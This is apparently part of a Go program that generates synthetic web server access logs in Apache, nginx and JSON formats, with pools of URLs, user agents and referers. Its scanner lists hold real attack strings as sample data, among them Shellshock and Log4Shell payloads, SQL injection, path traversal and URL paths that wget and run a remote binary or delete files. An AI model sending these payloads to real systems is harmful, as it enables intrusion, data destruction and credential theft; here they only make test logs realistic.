// appendJunk appends a line of binary junk, NUL padding or stray text.
func (g *generator) appendJunk(b []byte) []byte {
	r := g.r
	switch r.IntN(3) {
	case 0: // random bytes
		n := 16 + r.IntN(200)
		for range n {
			c := byte(r.Uint32())
			if c == '\n' {
				c = 0
			}
			b = append(b, c)
		}
	case 1: // NUL run left by copytruncate, then the start of a line
		n := 50 + r.IntN(1000)
		for range n {
			b = append(b, 0)
		}
		b = append(b, g.q.ip...)
		b = append(b, " - - ["...)
	default: // a line from some other log
		b = append(b, g.junkText[r.IntN(len(g.junkText))]...)
	}
	return append(b, '\n')
}

// appendStatus appends the status of g.q, or a broken one.
func (g *generator) appendStatus(b []byte) []byte {
	if g.q.bad == badStatus {
		return append(b, g.badStatus[g.r.IntN(len(g.badStatus))]...)
	}
	return strconv.AppendInt(b, int64(g.q.status), 10)
}

// appendRequest appends the escaped request line of g.q without quotes.
func (g *generator) appendRequest(b []byte) []byte {
	q := &g.q
	if q.reqLine != nil {
		return append(b, q.reqLine...)
	}
	b = append(b, q.method...)
	b = append(b, ' ')
	b = append(b, q.target...)
	b = append(b, ' ')
	return append(b, q.proto...)
}

// appendMs appends ms milliseconds as seconds with three decimals.
func appendMs(b []byte, ms int64) []byte {
	b = strconv.AppendInt(b, ms/1000, 10)
	f := ms % 1000
	return append(b, '.', byte('0'+f/100), byte('0'+f/10%10), byte('0'+f%10))
}

// appendUpstream appends $upstream_response_time.
func (g *generator) appendUpstream(b []byte) []byte {
	q := &g.q
	switch q.up {
	case upOne:
		return appendMs(b, q.up1Ms)
	case upTwo:
		b = appendMs(b, q.up1Ms)
		b = append(b, ", "...)
		return appendMs(b, q.up2Ms)
	}
	return append(b, '-')
}

// appendText appends a line in one of the space-separated formats, without
// newline, and returns the offset at which the status starts.
func (g *generator) appendText(b []byte) ([]byte, int) {
	q := &g.q
	f := g.cfg.Format
	if f == fmtVhost {
		b = append(b, q.host...)
		b = append(b, ':')
		b = append(b, q.port...)
		b = append(b, ' ')
	}
	b = append(b, q.ip...)
	b = append(b, " - "...)
	if q.user != nil {
		b = append(b, q.user...)
	} else {
		b = append(b, '-')
	}
	b = append(b, " ["...)
	b = append(b, g.clfTS...)
	b = append(b, "] \""...)
	b = g.appendRequest(b)
	b = append(b, "\" "...)
	statusAt := len(b)
	b = g.appendStatus(b)
	b = append(b, ' ')
	switch {
	case f == fmtVhost: // %O: headers included, never "-"
		if q.reqLine != nil && q.status == 408 {
			b = append(b, '0')
		} else {
			b = strconv.AppendInt(b, q.body+int64(180+(q.rtMs+int64(len(q.target)))%160), 10)
		}
	case q.body == 0 && !f.nginx():
		b = append(b, '-')
	default:
		b = strconv.AppendInt(b, q.body, 10)
	}
	if f == fmtCommon {
		return b, statusAt
	}
	b = append(b, " \""...)
	if q.referer != nil {
		b = append(b, q.referer...)
	} else {
		b = append(b, '-')
	}
	b = append(b, "\" \""...)
	if q.ua != nil {
		b = append(b, q.ua...)
	} else {
		b = append(b, '-')
	}
	b = append(b, '"')
	if f == fmtNginxTimed || f == fmtNginxUpstream {
		b = append(b, ' ')
		b = appendMs(b, q.rtMs)
	}
	if f == fmtNginxUpstream {
		b = append(b, ' ')
		b = g.appendUpstream(b)
	}
	return b, statusAt
}

// appendJSON appends a line in the json format, without newline, and
// returns the offset at which the status starts.
func (g *generator) appendJSON(b []byte) ([]byte, int) {
	q := &g.q
	b = append(b, `{"time":"`...)
	b = append(b, g.isoTS...)
	b = append(b, `","remote_addr":"`...)
	b = append(b, q.ip...)
	b = append(b, `","remote_user":"`...)
	b = append(b, q.user...)
	b = append(b, `","host":"`...)
	b = append(b, q.host...)
	b = append(b, `","request":"`...)
	if q.reqLine == nil || q.reqLine[0] != '-' {
		b = g.appendRequest(b)
	}
	b = append(b, `","status":`...)
	statusAt := len(b)
	b = g.appendStatus(b)
	b = append(b, `,"body_bytes_sent":`...)
	b = strconv.AppendInt(b, q.body, 10)
	b = append(b, `,"request_time":`...)
	b = appendMs(b, q.rtMs)
	b = append(b, `,"upstream_response_time":"`...)
	if q.up != upNone {
		b = g.appendUpstream(b)
	}
	b = append(b, `","http_referer":"`...)
	b = append(b, q.referer...)
	b = append(b, `","http_user_agent":"`...)
	b = append(b, q.ua...)
	b = append(b, `"}`...)
	return b, statusAt
}

// hotTargets are the first entries of the target pool, so the Zipf head is
// what a real site's busiest URLs look like.
var hotTargets = []struct {
	text string
	kind uint8
	size int64
}{
	{"/", kindPage, 31245},
	{"/static/js/app.3f9a1c2e.js", kindStatic, 184320},
	{"/static/css/main.8d41b7a0.css", kindStatic, 48213},
	{"/favicon.ico", kindStatic, 15086},
	{"/api/v1/session", kindAPI, 412},
	{"/api/v1/cart", kindAPI, 1290},
	{"/health", kindMisc, 2},
	{"/static/js/vendor.a71e0b94.js", kindStatic, 512110},
	{"/images/logo.svg", kindStatic, 6120},
	{"/robots.txt", kindMisc, 132},
	{"/api/v1/notifications?unread=1", kindAPI, 188},
	{"/login", kindPage, 8420},
	{"/products", kindPage, 40210},
	{"/sitemap.xml", kindMisc, 48211},
	{"/metrics", kindMisc, 12873},
	{"/apple-touch-icon.png", kindStatic, 7410},
	{"/fonts/inter-var.woff2", kindStatic, 98345},
	{"/api/v1/search?q=shoes&limit=20&offset=0", kindAPI, 9120},
	{"/cart", kindPage, 11200},
	{"/checkout", kindPage, 14210},
	{"/about", kindPage, 9310},
	{"/graphql", kindAPI, 2210},
	{"/feed.xml", kindMisc, 64820},
	{"/.well-known/security.txt", kindMisc, 214},
	{"/ads.txt", kindMisc, 58},
}

// words build slugs, search terms and category names.
var words = []string{
	"shoes", "jacket", "coffee", "laptop", "garden", "kitchen", "travel", "camera",
	"music", "books", "summer", "winter", "sale", "outdoor", "running", "yoga",
	"guitar", "linux", "golang", "nginx", "apache", "cloud", "design", "recipes",
	"pasta", "bread", "tea", "bike", "phone", "watch", "desk", "chair", "lamp",
	"sofa", "tent", "boots", "socks", "hat", "bag", "wallet", "red", "blue",
	"green", "black", "white", "mini", "pro", "max", "classic", "new",
}

// userNames are authenticated users and profile names.
var userNames = []string{
	"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan",
	"judy", "mallory", "oscar", "peggy", "trent", "victor", "walter", "admin",
	"deploy", "j.smith", "m.garcia",
}

// commonBrowserUAs is how many entries at the start of browserUAs are the
// everyday ones; the rest are rare oddities.
const commonBrowserUAs = 14

// browserUAs are the agents of people's browsers and apps.
var browserUAs = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
	"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
	"Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
	// Rare ones from here on (see commonBrowserUAs).
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21D50 [FBAN/FBIOS;FBAV/450.0.0.38.108;FBBV/564431005;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.3;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]",
	"Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
	`"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"`,
	`Mozilla/5.0 (Linux; U; Android 4.4.2; zh-cn; 小米手机 Build/KOT49H) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30`,
	"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
	"Opera/9.80 (Windows NT 6.1; U; en) Presto/2.12.388 Version/12.18",
	`Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 OPR/109.0.0.0 "beta"`,
	"-",
}

// botUAs are crawlers: 0 and 1 Googlebot, 2 bingbot, then others.
var botUAs = []string{
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.201 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
	"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
	"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
	"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.2 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
	"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
	"Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
	"Twitterbot/1.0",
	"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
	"Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
}

// toolUAs are scripts, native apps, monitors and libraries.
var toolUAs = []string{
	"curl/8.5.0",
	"curl/7.68.0",
	"python-requests/2.31.0",
	"Go-http-client/2.0",
	"Go-http-client/1.1",
	"okhttp/4.12.0",
	"Wget/1.21.4",
	"axios/1.6.8",
	"Apache-HttpClient/4.5.14 (Java/17.0.10)",
	"PostmanRuntime/7.37.3",
	"Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)",
	"MyShop/5.12.0 (iPhone; iOS 17.4.1; Scale/3.00)",
	"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
	"kube-probe/1.29",
	"Prometheus/2.51.2",
	"-",
}

// scannerUAs are the agents of vulnerability scanners and exploit attempts.
var scannerUAs = []string{
	"Mozilla/5.0 zgrab/0.x",
	"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
	"python-requests/2.25.1",
	"Mozilla/5.0 (l9scan/2.0.; +https://leakix.net)",
	"Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers&#39; presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com",
	`() { :; }; echo; echo; /bin/bash -c "cat /etc/passwd"`,
	"${jndi:ldap://198.51.100.23:1389/Exploit}",
	`Mozilla/5.0' AND "1"="1`,
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
	`..\..\..\..\..\windows\win.ini`,
	"Hello World",
	"-",
}

// externalReferers are links from other sites.
var externalReferers = []string{
	"https://www.google.com/",
	"https://www.google.com/",
	"https://www.google.co.uk/",
	"https://www.bing.com/",
	"https://duckduckgo.com/",
	"https://t.co/Ab3dE5fGhZ",
	"https://www.facebook.com/",
	"https://l.facebook.com/l.php?u=https%3A%2F%2Fwww.example.com%2F&h=AT0xYz",
	"https://www.reddit.com/r/golang/comments/1c8k2x9/",
	"https://news.ycombinator.com/item?id=40123456",
	"android-app://com.google.android.gm/",
	"https://search.yahoo.com/search?p=example+shop",
	"http://example.com/",
	"https://yandex.ru/",
}

// scannerPaths are what vulnerability scanners ask for.
var scannerPaths = []string{
	"/wp-login.php",
	"/wp-login.php",
	"/.env",
	"/.env",
	"/.git/config",
	"/phpmyadmin/",
	"/wp-admin/setup-config.php",
	"/xmlrpc.php",
	"/admin/.env",
	"/.aws/credentials",
	"/config.json",
	"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F198.51.100.9%2Ft%60)",
	"/boaform/admin/formLogin",
	"/.DS_Store",
	"/server-status",
	"/actuator/env",
	"/HNAP1/",
	"/owa/auth/logon.aspx",
	"/solr/admin/info/system?wt=json",
	`/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP`,
	"/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws",
	"/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
	"/?XDEBUG_SESSION_START=phpstorm",
	"/manager/html",
	"/.git/HEAD",
	"/backup.sql",
	"/wp-config.php.bak",
	"/wp-content/plugins/wp-file-manager/readme.txt",
}

// clientHello is the start of a TLS 1.2 ClientHello record, which some
// clients send to a plain-HTTP port; servers log its bytes as the request.
var clientHello = []byte("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x8a\x1f\"\x5c\xe2\x0bq\x9d\xc4\xa1\x22\x07\x7f\x18\x10 \x00\x00\x16\xc0+\xc0/\xc0\x2c")

// strayLines are lines from other logs that end up in access logs.
var strayLines = []string{
	"[Mon Jun 02 00:00:01.123456 2025] [core:error] [pid 1234:tid 140212] [client 198.51.100.4:51234] AH00124: Request exceeded the limit of 10 internal redirects due to probable configuration error.",
	"2025/06/02 00:00:01 [error] 31#31: *1423 upstream timed out (110: Connection timed out) while reading response header from upstream",
	"<html><body><h1>502 Bad Gateway</h1></body></html>",
	"PHP Warning:  Undefined array key \"id\" in /var/www/html/index.php on line 42",
	"-- MARK --",
}

// ipv6Prefixes are the first two groups of the IPv6 client addresses.
var ipv6Prefixes = []string{
	"2a02:c7c", "2600:1700", "2a01:e0a", "2603:8000", "2407:7000", "2804:14c",
	"2a00:23c7", "2001:569", "2406:3003", "2a02:8109",
}
